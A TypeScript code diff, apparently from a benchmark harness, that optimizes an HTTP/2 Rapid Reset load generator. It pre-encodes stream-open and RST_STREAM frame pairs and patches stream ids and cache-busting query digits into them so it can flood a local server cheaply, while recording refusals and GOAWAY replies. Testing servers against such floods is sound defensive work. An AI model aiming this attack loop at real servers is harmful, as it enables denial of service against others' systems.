@@ -46,20 +46,58 @@ export interface RapidResetStats {
 const PAIRS_PER_WRITE = 100;
 const MAX_STREAM_ID = 0x7fffffff;
 
-/** The head of a GET of `path` from the host on `port`. */
-const getHead = (port: number, path: string): Array<[string, string]> => [
-  [':method', 'GET'],
-  [':scheme', 'http'],
-  [':path', path],
-  [':authority', `127.0.0.1:${port}`],
-];
+/** Digits of the query that makes each stream's target one never asked before. */
+const TARGET_DIGITS = 10;
+/** An RST_STREAM frame's length on the wire: a header and a code. */
+const RST_STREAM_LENGTH = 9 + 4;
+
+/**
+ * The writes of one connection: one stream opened and reset, encoded once, copied and patched for
+ * each (its stream id, and its target's digits when uncached). The attacker then spends next to
+ * nothing per stream, as a compiled client would, and little of the cores it shares with the host
+ * in a benchmark.
+ */
+class Writes {
+  readonly #pair: Buffer;
+  /** Where the target's digits are in a pair (-1: cached, none). */
+  readonly #digitsAt: number;
+  #next = 0;
+
+  constructor(port: number, targets: RapidResetOptions['targets']) {
+    const path = targets === 'cached' ? '/api/counter/view' : `/api/counter/view?reset=${'0'.repeat(TARGET_DIGITS)}`;
+    this.#pair = openedAndReset(
+      [1],
+      [
+        [':method', 'GET'],
+        [':scheme', 'http'],
+        [':path', path],
+        [':authority', `127.0.0.1:${port}`],
+      ],
+    );
+    this.#digitsAt = targets === 'cached' ? -1 : this.#pair.indexOf('0'.repeat(TARGET_DIGITS), 0, 'latin1');
+  }
+
+  /** PAIRS_PER_WRITE streams from `firstId` (odd, as a client's are), opened and reset. */
+  write(firstId: number): Buffer {
+    const length = this.#pair.length;
+    const out = Buffer.allocUnsafe(length * PAIRS_PER_WRITE);
+    for (let i = 0; i < PAIRS_PER_WRITE; i++) {
+      const at = i * length;
+      const id = firstId + 2 * i;
+      this.#pair.copy(out, at);
+      out.writeUInt32BE(id, at + 5);
+      out.writeUInt32BE(id, at + length - RST_STREAM_LENGTH + 5);
+      if (this.#digitsAt >= 0) out.write(String(this.#next++).padStart(TARGET_DIGITS, '0'), at + this.#digitsAt, 'latin1');
+    }
+    return out;
+  }
+}
 
 export function rapidReset(options: RapidResetOptions): { stats: RapidResetStats; stop(): void } {
   const stats: RapidResetStats = { connections: 0, served: 0, refused: 0, acceptedAfterMs: [], streams: 0, goaway: {} };
   const sockets = new Set<net.Socket>();
   let stopped = false;
-  let n = 0;
-  const path = () => (options.targets === 'cached' ? '/api/counter/view' : `/api/counter/view?reset=${n++}`);
+  const writes = new Writes(options.port, options.targets);
 
   const lane = () => {
     if (stopped) return;
@@ -94,10 +132,10 @@ export function rapidReset(options: RapidResetOptions): { stats: RapidResetStats
     // yielding to the event loop between writes so that replies and closes are seen.
     const write = () => {
       if (stopped || socket.destroyed || streamId > MAX_STREAM_ID - 2 * PAIRS_PER_WRITE) return;
-      const parts: Buffer[] = [];
-      for (let i = 0; i < PAIRS_PER_WRITE; i++, streamId += 2) parts.push(openedAndReset([streamId], getHead(options.port, path())));
+      const bytes = writes.write(streamId);
+      streamId += 2 * PAIRS_PER_WRITE;
       stats.streams += PAIRS_PER_WRITE;
-      if (socket.write(Buffer.concat(parts))) setImmediate(write);
+      if (socket.write(bytes)) setImmediate(write);
       else socket.once('drain', write);
     };
     socket.once('connect', () => {
